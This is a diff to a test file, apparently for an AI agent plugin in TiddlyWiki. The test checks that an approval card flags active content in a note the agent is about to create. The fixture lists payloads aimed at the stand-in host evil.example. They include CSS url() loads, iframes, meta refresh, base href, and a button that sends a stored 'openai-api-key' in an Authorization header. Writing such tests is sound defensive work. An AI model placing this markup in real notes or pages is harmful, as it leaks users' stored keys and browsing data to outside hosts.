@@ -9,6 +9,27 @@ const CHAT = 'Card chat';
 const SELF_CHAT = 'Self card chat';
 const PREVIEW_CHAT = 'Preview chat';
 const DIFF_CHAT = 'Diff chat';
+const LOADS_CHAT = 'Loads chat';
+/** A note with everything that loads an address, frames a page or reads a stored key, each with the flag the card must show. */
+const LOADS: [string, string][] = [
+  ['<div style="background:url(https://evil.example/a.png)">A</div>', 'a style loads https://evil.example/a.png when shown (CSS url())'],
+  ['@@background:url(https://evil.example/b.png) B@@', 'a style loads https://evil.example/b.png when shown (CSS url())'],
+  ['<span style.background-image="url(https://evil.example/c.png)">C</span>', 'a style loads https://evil.example/c.png when shown (CSS url())'],
+  ['<style>p { background: url(https://evil.example/d.png) }</style>', '<style> restyles the whole page and can load addresses'],
+  ['<img srcset="https://evil.example/e.png 2x">', 'loads https://evil.example/e.png when shown (srcset)'],
+  ['![cat](https://evil.example/f.png)', 'external image https://evil.example/f.png (Markdown)'],
+  ['![dog][g]\n\n[g]: https://evil.example/g.png', 'external image https://evil.example/g.png (Markdown)'],
+  ['<link rel="stylesheet" href="https://evil.example/h.css">', '<link> loads a style sheet or another file from an address'],
+  ['<iframe src="https://evil.example/i"></iframe>', '<iframe> shows another page inside this one'],
+  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv> can reload the page or send it to another address'],
+  ['<base href="https://evil.example/">', '<base> changes where every relative link and image of the page points'],
+  ['<svg><image href="https://evil.example/j.svg"/></svg>', 'loads https://evil.example/j.svg when shown (href)'],
+  ['<svg><use href="https://evil.example/k.svg#x"/></svg>', 'loads https://evil.example/k.svg#x when shown (href)'],
+  ['<video poster="https://evil.example/l.png"></video>', 'loads https://evil.example/l.png when shown (poster)'],
+  ['<$password name="openai-api-key"/>', '<$password> shows a password or key saved in this browser to whoever views the note'],
+  ['<$button><$action-sendmessage $message="tm-http-request" url="https://evil.example/" password-header-Authorization="openai-api-key"/>Go</$button>', 'sends HTTP requests (tm-http-request), which can carry a password or key saved in this browser'],
+];
+const LOADS_TEXT = LOADS.map(([text]) => text).join('\n\n');
 const SELF_BEFORE = { title: 'Self agent', tags: '$:/tags/AI/Agent', 'agent-provider': 'P', 'agent-tools': 'edit-agent-definition', text: 'You are casual.', modified: '20260101000000000' };
 const AFTER = {
   title: 'Helper',
@@ -64,6 +85,20 @@ beforeAll(async () => {
       'tool-status': 'pending',
       text: 'Fetch https://example.com/page',
     },
+    { title: LOADS_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
+    { title: `$:/ai/messages/${LOADS_CHAT}/000000`, 'agent-chat': LOADS_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Decorate it' },
+    {
+      title: `$:/ai/messages/${LOADS_CHAT}/000001`,
+      'agent-chat': LOADS_CHAT,
+      'agent-seq': '1',
+      role: 'tool',
+      'tool-name': 'wiki-create',
+      'tool-call-id': 'c3',
+      'tool-args': JSON.stringify({ title: 'Decorated', text: LOADS_TEXT }),
+      'tool-status': 'pending',
+      'tool-changes': JSON.stringify({ Decorated: { before: null, after: { title: 'Decorated', text: LOADS_TEXT } } }),
+      text: 'Create "Decorated"',
+    },
     { title: DIFF_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
     { title: `$:/ai/messages/${DIFF_CHAT}/000000`, 'agent-chat': DIFF_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Tag it' },
     {
@@ -117,6 +152,12 @@ test('the card flags the active content of the result: the button widget and the
   expect(flags).toContain('<$action-sendmessage>');
   expect(flags).toContain('can run actions when clicked');
   expect(flags).toContain('external image https://evil.example/x.png');
+});
+
+test('the card flags, in words, everything that loads an address, frames a page or reads a stored key (issue 23)', () => {
+  const [card] = find(render(LOADS_CHAT), 'tc-ai-approval');
+  const flags = find(card, 'tc-ai-active-content')[0].children[1].children.map((li: any) => li.textContent as string);
+  for (const [text, flag] of LOADS) expect([text, flags]).toEqual([text, expect.arrayContaining([flag])]);
 });
 
 test('a confirm-only call (edit-agent-definition): the card shows the definition\'s diff and offers only "once" and "deny"', () => {
